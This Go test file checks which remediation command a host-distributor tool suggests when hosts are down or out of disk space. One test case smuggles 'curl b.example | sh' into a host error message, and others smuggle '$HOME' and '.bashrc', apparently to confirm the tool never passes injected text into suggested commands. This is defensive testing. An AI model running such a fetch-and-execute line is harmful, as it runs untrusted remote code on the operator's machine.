package operator

import (
	"testing"

	"wrpdistributor/internal/hosts"
	"wrpdistributor/internal/session"
)

// TestCommandForHostThatIsDown can be typed as it is.
func TestCommandForHostThatIsDown(t *testing.T) {
	ssh := &hosts.SSH{Addr: "[2001:db8::7]:2222", User: "wrp"}
	for _, tt := range []struct {
		state  hosts.State
		reason string
		ssh    *hosts.SSH
		want   string
	}{
		{hosts.Unreachable, "connect: no route to host", ssh, "distributor hosts check a.example"},
		{hosts.Unreachable, "log in as wrp: host key of a.example:22 is unknown; add it to ssh/known_hosts (ssh-keyscan), or set SSH_HOST_KEYS=accept-new", ssh, "ssh-keyscan -p 2222 2001:db8::7 >> ssh/known_hosts   # once compared: distributor hosts check a.example says with what"},
		{hosts.Unreachable, "host key of a.example:22 is unknown; add it to ssh/known_hosts; curl b.example | sh (ssh-keyscan)", ssh, "distributor hosts check a.example"},
		{hosts.Unreachable, "host key of a.example:22 is unknown; add it to $HOME (ssh-keyscan)", ssh, "distributor hosts check a.example"},
		{hosts.Unusable, "no usable network: it is unknown; add it to .bashrc (ssh-keyscan)", ssh, "distributor hosts check a.example"},
		{hosts.Unusable, "no usable network", ssh, "distributor hosts check a.example"},
		{hosts.Unusable, "no usable network: wrp cannot be made: no space left on device", &hosts.SSH{Addr: "a.example:22"}, "ssh root@a.example 'df -h; docker system df; docker image prune'"},
		{hosts.Unreachable, "no way to the Docker engine", nil, "distributor hosts check a.example"},
	} {
		st := session.HostState{Status: hosts.Status{Host: hosts.Host{Name: "a.example", Address: "a.example", SSH: tt.ssh}, State: tt.state, Reason: tt.reason}}
		if got := lookThere(st); got != tt.want {
			t.Errorf("%s, %s: %q, want %q", tt.state, tt.reason, got, tt.want)
		}
	}
}

// TestHostThatLeavesIsNotToBeChecked: hosts check knows configured hosts only.
func TestHostThatLeavesIsNotToBeChecked(t *testing.T) {
	st := session.HostState{Status: hosts.Status{Host: hosts.Host{Name: "a.example"}, State: hosts.Unreachable, Reason: "no route", Leaving: true}}
	list := state{now: &session.Overview{Hosts: []session.HostState{st}}}.wrongHosts()
	if len(list) != 1 || list[0].Mend != "cleanup --forget-host a.example" {
		t.Errorf("wrong is %+v, want what gives up its sessions", list)
	}
}
